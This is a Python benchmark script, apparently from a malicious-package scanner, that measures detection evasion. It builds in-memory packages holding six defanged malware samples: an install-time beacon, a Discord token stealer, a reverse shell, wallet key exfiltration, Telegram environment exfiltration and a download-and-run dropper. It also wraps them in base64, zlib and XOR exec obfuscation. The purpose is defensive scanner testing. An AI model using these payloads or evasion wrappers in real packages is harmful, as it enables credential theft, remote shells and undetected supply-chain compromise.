# ruff: noqa: E501  (the defanged payloads are kept one statement per line, as written in the wild)
"""Small rewrites of six defanged malware shapes, scored by the bundled model.

Each shape (an install-time beacon, an import-time Discord-token stealer, a reverse shell, a call-time
wallet helper, Telegram exfiltration of the environment, a download-and-run dropper) is written in nine
ways (plain; base64, zlib+base64 or XOR-hex exec; padded with harmless functions; in a class body; moved
to a submodule; in a data file the module runs; in a function nothing calls), with and without a README in the metadata. Packages are
built in memory, read by the real extractor and scored; nothing is ever run. Addresses are TEST-NET or
placeholders. ``python benchmarks/evasion_probe.py [--out JSON]`` prints the table and the misses.

Each package is scored twice: by the model alone, and through the scan path every interface uses
(``Scanner.scan_archive``: the model plus the hard findings of ``vetpy.policy``, which flag a package
whatever its score). A cell is starred when the model alone misses it, and marked ``P`` when the scan
path flags it all the same (the policy reason named in the JSON).
"""

from __future__ import annotations

import argparse
import base64
import io
import json
import os
import tarfile
import textwrap
import zlib
from pathlib import Path

from vetpy.acquire.archive import open_archive
from vetpy.acquire.interface import Archive
from vetpy.features.extract import extract_features
from vetpy.model.loader import load_default_scorer
from vetpy.result import Verdict
from vetpy.scan import Scanner


def pkg_info(name: str, version: str, **fields: str) -> str:
    lines = ["Metadata-Version: 2.1", f"Name: {name}", f"Version: {version}"]
    header = {"home_page": "Home-page", "author_email": "Author-email"}
    lines += [f"{header.get(k, k.capitalize())}: {v}" for k, v in fields.items() if k != "description"]
    return "\n".join(lines) + "\n" + ("\n" + fields["description"] if "description" in fields else "")


def make_archive(files: dict[str, str], pkg_info: str, name: str) -> Archive:
    """The package as an sdist (a gzipped tar built in memory), opened the way every scan opens one
    (``open_archive``: with its code views, such as data files the code runs)."""
    prefix = f"{name}-1.0/"
    entries = {prefix + "PKG-INFO": pkg_info, **{prefix + p: t for p, t in files.items()}}
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for path, text in entries.items():
            data = text.encode()
            info = tarfile.TarInfo(path)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return open_archive(buf.getvalue(), target=f"{name}-1.0.tar.gz", filename=f"{name}-1.0.tar.gz")


PKG = "quillnest"
SETUP = "from setuptools import setup\nsetup(name='demo', version='1.0', packages=['demo'])\n"
README = (
    "A small, friendly toolkit for parsing configuration files.\n\n"
    + "## Install\n\npip install demo\n\n## Usage\n\n```python\nimport demo\ndemo.load('a.toml')\n```\n\n"
    + "Features: fast parsing, schema validation, environment overrides, helpful error messages.\n" * 8
)

SHAPES = {
    # install-time beacon (dependency confusion)
    "beacon": (
        "setup.py",
        """import os, socket, getpass, json
from urllib import request
from setuptools import setup
data = json.dumps({"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()}).encode()
request.urlopen(request.Request("https://abc123.oast.fun/c", data=data))
setup(name='demo', version='1.0')
""",
    ),
    # import-time discord token stealer
    "stealer": (
        "demo/__init__.py",
        """import os, re, json
import requests
def _grab():
    tokens = []
    root = os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")
    for name in os.listdir(root):
        with open(os.path.join(root, name), errors="ignore") as fh:
            tokens += re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", fh.read())
    requests.post("https://discord.com/api/webhooks/1234567890/abcdefghijklmnopqrstuvwxyz", json={"content": json.dumps(tokens)})
_grab()
""",
    ),
    # import-time reverse shell
    "revshell": (
        "demo/__init__.py",
        """import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.9", 4444))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
""",
    ),
    # call-time wallet key exfil
    "wallet": (
        "demo/client.py",
        """import requests
def get_balance(address, private_key):
    requests.post("http://203.0.113.5:8080/api/v1/balance", json={"address": address, "key": private_key}, timeout=3)
    return 0
""",
    ),
    # telegram env exfil at import
    "telegram": (
        "demo/__init__.py",
        """import os, requests
requests.post("https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage", data={"chat_id": "1234", "text": str(dict(os.environ))})
""",
    ),
    # download and run exe at install
    "dropper": (
        "setup.py",
        """import os, urllib.request, subprocess
from setuptools import setup
p = os.path.join(os.getenv("TEMP", "/tmp"), "upd.exe")
urllib.request.urlretrieve("https://cdn.example-files.xyz/upd.exe", p)
subprocess.Popen([p], shell=True)
setup(name='demo', version='1.0')
""",
    ),
}


def b64exec(code):
    return f"import base64\nexec(base64.b64decode({base64.b64encode(code.encode()).decode()!r}))\n"


def zlibexec(code):
    return f"import zlib, base64\nexec(zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(code.encode())).decode()!r})))\n"


def xorexec(code):
    key = 0x5A
    enc = bytes(b ^ key for b in code.encode())
    return f"_k = {key}\n_d = {enc.hex()!r}\nexec(bytes(b ^ _k for b in bytes.fromhex(_d)).decode())\n"


def in_function(code):
    body = textwrap.indent(code, "    ")
    return f"def _init_plugin():\n{body}\n"


def in_class(code):
    body = textwrap.indent(code, "    ")
    return f"class Config:\n{body}\n"


def padding(code):
    filler = "\n".join(
        f'def helper_{i}(value, default=None):\n    """Return value or default."""\n    if value is None:\n        return default\n    return value\n'
        for i in range(60)
    )
    return filler + "\n" + code


TRANSFORMS = {
    "plain": lambda p, c: {p: c},
    "b64exec": lambda p, c: {p: b64exec(c)},
    "zlibexec": lambda p, c: {p: zlibexec(c)},
    "xorexec": lambda p, c: {p: xorexec(c)},
    "padded": lambda p, c: {p: padding(c)},
    "in_class": lambda p, c: {p: in_class(c)},
    "moved_submodule": lambda p, c: (
        {"demo/_compat.py": c, "demo/__init__.py": "from . import _compat\n"}
        if p != "setup.py"
        else {
            "demo/_build.py": c.replace("setup(name='demo', version='1.0')\n", ""),
            "setup.py": "import demo._build\n" + SETUP,
        }
    ),
    # the payload in a data file the module runs: exec(open(<here>/assets.dat).read())
    "data_file": lambda p, c: {
        p: ("import os\n" if p != "setup.py" else "import os\nfrom setuptools import setup\n")
        + "exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'assets.dat')).read())\n"
        + ("setup(name='demo', version='1.0')\n" if p == "setup.py" else ""),
        os.path.join(os.path.dirname(p), "assets.dat"): c.replace("setup(name='demo', version='1.0')\n", ""),
    },
    "call_time_only": lambda p, c: {
        p if p != "setup.py" else "demo/util.py": in_function(
            c.replace("setup(name='demo', version='1.0')\n", "").replace("from setuptools import setup\n", "")
        )
    },
}


def build(shape, tname, readme):
    path, code = SHAPES[shape]
    files = TRANSFORMS[tname](path, code)
    files.setdefault("setup.py", SETUP)
    files.setdefault("demo/__init__.py", "")
    info = pkg_info(
        PKG,
        "1.0",
        summary="Configuration helpers",
        author="Jane Doe",
        author_email="jane@example.org",
        home_page="https://example.org/demo",
        license="MIT",
        **({"description": README} if readme else {}),
    )
    return make_archive(files, pkg_info=info, name=PKG)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, help="write every score as JSON here")
    args = parser.parse_args()
    scorer = load_default_scorer()
    scanner = Scanner(scorer=scorer)
    scores: dict[str, float] = {}
    policy: dict[str, str] = {}
    thr = scorer.threshold
    print("threshold", round(thr, 3))
    missed = flagged = total = 0
    print(f"{'shape':10s}" + "".join(f"{t[:10]:>12s}" for t in TRANSFORMS))
    for readme in (False, True):
        for shape in SHAPES:
            row = []
            for t in TRANSFORMS:
                archive = build(shape, t, readme)
                key = f"{shape}{'+readme' if readme else ''}/{t}"
                s = scorer.score([extract_features(archive.analysed())])[0]
                result = scanner.scan_archive(archive)
                scores[key] = round(float(s), 4)
                rule = next((r.feature for r in result.reasons if r.feature.startswith("policy.")), None)
                if rule:
                    policy[key] = rule
                total += 1
                missed += s < thr
                flagged += result.verdict is Verdict.MALICIOUS
                mark = ("P" if rule else " ") + ("*" if s < thr else " ")
                row.append(f"{s:10.3f}{mark}")
            print(f"{shape + ('+R' if readme else ''):10s}" + "".join(row))
    print("model alone: missed", missed, "of", total)
    print("scan path (model + hard findings): flagged", flagged, "of", total)
    if args.out:
        out = {
            "scored_by": (
                "missed/scores: the bundled model alone; scan_path_flagged/policy: Scanner.scan_archive "
                "(the model plus vetpy.policy's hard findings, as every interface scans)"
            ),
            "threshold": thr,
            "missed": int(missed),
            "total": total,
            "scores": scores,
            "scan_path_flagged": flagged,
            "policy": policy,
        }
        args.out.write_text(json.dumps(out, indent=1))


if __name__ == "__main__":
    main()
